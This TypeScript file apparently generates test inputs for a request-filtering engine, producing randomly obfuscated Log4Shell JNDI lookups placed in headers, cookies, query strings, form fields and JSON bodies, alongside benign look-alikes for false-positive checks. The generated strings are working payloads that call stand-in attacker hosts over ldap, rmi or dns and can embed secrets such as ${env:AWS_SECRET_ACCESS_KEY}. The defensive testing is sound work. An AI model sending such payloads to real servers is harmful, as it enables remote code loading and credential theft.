// Log4Shell as mass scanners send it: a `${jndi:...}` lookup in any header a server may log
// (User-Agent, Referer, X-Api-Version, X-Forwarded-For, Authorization ...), a cookie, a query
// or a JSON field, with every letter of `jndi` and of the protocol hidden at random behind a
// nested lookup (lower/upper, `::-`, env/sys/k8s/date defaults), the `:` and `//` hidden the
// same way, and the whole lookup URL- or JSON-escaped where the carrier unescapes it.
import fc from "fast-check";
import type { Req } from "../engine.js";
import { rng, type R } from "./rng.js";

const pickR = <T>(r: R, xs: readonly T[]): T => xs[r(xs.length)];
const word = (r: R, n = 5) => Array.from({ length: n }, () => String.fromCharCode(0x61 + r(26))).join("");

/** One character as a nested lookup that resolves to it (or the character itself). */
function hide(r: R, ch: string): string {
  const c = r(2) ? ch.toUpperCase() : ch;
  switch (r(10)) {
    case 0: return `\${lower:${c}}`;
    case 1: return `\${upper:${c}}`;
    case 2: return `\${::-${c}}`;
    case 3: return `\${${pickR(r, ["env", "sys", "k8s", "main", "ctx", "spring", "bundle:app"])}:${word(r, 2 + r(6)).toUpperCase()}:-${c}}`;
    case 4: return `\${date:'${c}'}`;
    case 5: return `\${${word(r, 1 + r(4))}:${word(r, r(4))}:-${c}}`;
    case 6: return `\${lower:\${upper:${c}}}`;
    default: return ch;
  }
}
const spell = (r: R, s: string) => [...s].map((ch) => hide(r, ch)).join("");

const PROTO = ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"];
function target(r: R): string {
  const host = pickR(r, [`${word(r)}.oast.example`, `198.51.100.${1 + r(250)}`, `\${hostName}.${word(r)}.example`, `${word(r)}.\${env:USER}.example`, `\${sys:java.version}.${word(r)}.example`]);
  return `${host}${r(2) ? ":" + (1000 + r(9000)) : ""}/${pickR(r, [word(r), "a", "Exploit", "o=tomcat", "\${env:AWS_SECRET_ACCESS_KEY}"])}`;
}
/** A JNDI lookup with random hiding of its keyword, protocol and separators. */
export function jndiLookup(r: R): string {
  const open = r(5) === 0 ? `\${${hide(r, "")}` : "${";
  const colon = r(4) === 0 ? "${::-:}" : ":";
  const slashes = r(5) === 0 ? "${::-/}${::-/}" : "//";
  return `${open}${spell(r, "jndi")}${colon}${spell(r, pickR(r, PROTO))}:${slashes}${target(r)}}`;
}

const HEADERS = ["user-agent", "referer", "x-api-version", "x-forwarded-for", "x-forwarded-host", "x-client-ip", "true-client-ip", "x-real-ip", "authorization", "accept-language",
  "x-request-id", "x-correlation-id", "contact", "from", "origin", "x-wap-profile", "if-modified-since", "cache-control", "accept", "x-" + "custom-header", "forwarded", "dnt"];

/** Where the scanner puts it: a header (as is, after `Bearer `, in a forwarded list), a cookie, a query, a form field, JSON. */
function placeLookup(r: R, v: string): { req: Req; where: string } {
  const host: [string, string] = ["host", "svc.local"];
  switch (r(6)) {
    case 0: case 1: case 2: {
      const name = pickR(r, HEADERS);
      const value = name === "authorization" ? `Bearer ${v}` : name === "forwarded" ? `for=${v};proto=https` : r(4) === 0 ? `${word(r)} ${v}` : v;
      return { req: { method: pickR(r, ["GET", "POST", "HEAD"]), path: "/", headers: [host, [name, value]] }, where: `header:${name}` };
    }
    case 3: return { req: { method: "GET", path: "/", headers: [host, ["cookie", `${pickR(r, ["JSESSIONID", "session", "lang", "remember"])}=${r(2) ? encodeURIComponent(v) : v}`]] }, where: "cookie" };
    case 4: {
      const enc = r(2) ? encodeURIComponent(v) : v.replace(/[{}]/g, (c) => encodeURIComponent(c));
      return r(2)
        ? { req: { method: "GET", path: `/${pickR(r, ["search", "login", "api/v1/user"])}?${pickR(r, ["q", "username", "x", "id"])}=${enc}`, headers: [host] }, where: "query" }
        : { req: { method: "POST", path: "/login", headers: [host, ["content-type", "application/x-www-form-urlencoded"]], body: `username=${enc}&password=x` }, where: "form" };
    }
    default: {
      const s = JSON.stringify(v);
      const body = `{"${pickR(r, ["username", "email", "message", "name"])}":${r(3) === 0 ? s.replace(/\$/g, "\\u0024").replace(/\{/g, "\\u007b") : s}}`;
      return { req: { method: "POST", path: "/api/login", headers: [host, ["content-type", "application/json"]], body }, where: "json" };
    }
  }
}

export const jndiAttack: fc.Arbitrary<{ value: string; where: string; req: Req }> = fc.nat().map((seed) => {
  const r = rng(seed);
  const value = jndiLookup(r);
  return { value, ...placeLookup(r, value) };
});

/** Lookups and dollars used honestly: config placeholders, prices, shell-like defaults. */
export const jndiBenign: fc.Arbitrary<string> = fc.constantFrom(
  "${env:HOME}", "${user.name}", "Price ${amount} USD", "${lower:Header}", "${date:yyyy-MM-dd}", "the JNDI tutorial",
  "Mozilla/5.0 (X11; Linux x86_64) ${build}", "java:comp/env/jdbc/db", "${sys:catalina.base}/logs",
);
